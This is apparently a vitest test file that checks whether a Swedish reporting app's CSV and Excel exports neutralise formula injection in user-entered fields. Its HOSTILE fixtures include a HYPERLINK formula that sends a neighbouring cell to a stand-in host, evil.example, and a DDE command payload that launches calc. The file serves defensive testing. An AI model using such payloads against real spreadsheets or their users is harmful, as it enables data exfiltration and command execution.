import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFileServer, type FileServer } from './testing/file-server';
import { trpcGet } from './testing/server-process';

// A reporter's text that Excel would run as a formula when the round's file is opened: a link that
// sends the neighbouring cell away, a command, and the other characters a formula may begin with.
const HOSTILE = [
  {
    comment: '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
    text: "=cmd|' /C calc'!A0",
    owner: '@SUM(1+1)',
  },
  { comment: '+SUM(A1:A9)', text: '-2+3', owner: '\tTAB' },
  // A phone number too: Excel would compute it; as text it reads as written.
  { comment: '-1', text: '=1+1', owner: '+46 40 34 10 00' },
];
const ROUND = '2026-K4';
// A unit whose report is still a draft in the demo's open round, so its form takes saves.
const REPORTER = 'forskoleforvaltningen@demo.lagesbild.se';

let server: FileServer;
beforeAll(async () => {
  server = await startFileServer();
  const cookie = await server.cookieOf(REPORTER);
  const form = await trpcGet<{
    items: { capabilityCode: string; version: number; notApplicable: boolean }[];
  }>(server.base, cookie, 'report.form', { round: ROUND });
  const items = form.items.filter((i) => !i.notApplicable);
  for (const [i, hostile] of HOSTILE.entries()) {
    const res = await fetch(`${server.base}/trpc/report.save`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie },
      body: JSON.stringify({
        round: ROUND,
        capabilityCode: items[i]!.capabilityCode,
        version: items[i]!.version,
        fields: {
          selfRating: 2,
          targetLevel: 3,
          targetYear: 2028,
          notApplicable: false,
          evidence: { text: hostile.text, link: null, owner: hostile.owner, date: null },
          confidence: 'low',
          comment: hostile.comment,
        },
      }),
    });
    expect(res.status).toBe(200);
  }
});
afterAll(() => server.close());

const download = async (path: string) =>
  fetch(`${server.base}${path}`, {
    headers: { cookie: await server.cookieOf('itd@demo.lagesbild.se') },
  });

const COLUMNS = ['Evidens', 'Evidensens ägare', 'Kommentar'] as const;

describe('text that looks like a formula, in the round’s files', () => {
  it('comes out of the CSV as text: every such cell begins with a quote, and reads as typed after it', async () => {
    const res = await download(`/export/omgang/${ROUND}.csv?tabell=bedomningar`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parse(Buffer.from(await res.arrayBuffer()), {
      delimiter: ';',
      bom: true,
      relax_column_count: false,
    }) as string[][];
    const at = COLUMNS.map((name) => header!.indexOf(name));
    const cells = rows.map((row) => at.map((i) => row[i]));
    for (const hostile of HOSTILE) {
      expect(cells).toContainEqual([
        `'${hostile.text}`,
        `'${hostile.owner}`,
        `'${hostile.comment}`,
      ]);
    }
    // Not one cell of the file, demo data included, begins as a formula would.
    const live = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(live).toEqual([]);
  });

  it('stays text in the workbook: string cells with the text as typed, and no formula anywhere', async () => {
    const res = await download(`/export/omgang/${ROUND}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const sheet = workbook.getWorksheet('Bedömningar')!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const at = COLUMNS.map((name) => header.indexOf(name));
    const found: unknown[][] = [];
    workbook.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
        }),
      ),
    );
    sheet.eachRow((row) => found.push(at.map((i) => row.getCell(i)).map((c) => [c.type, c.value])));
    for (const hostile of HOSTILE) {
      expect(found).toContainEqual(
        [hostile.text, hostile.owner, hostile.comment].map((v) => [ExcelJS.ValueType.String, v]),
      );
    }
  });
});
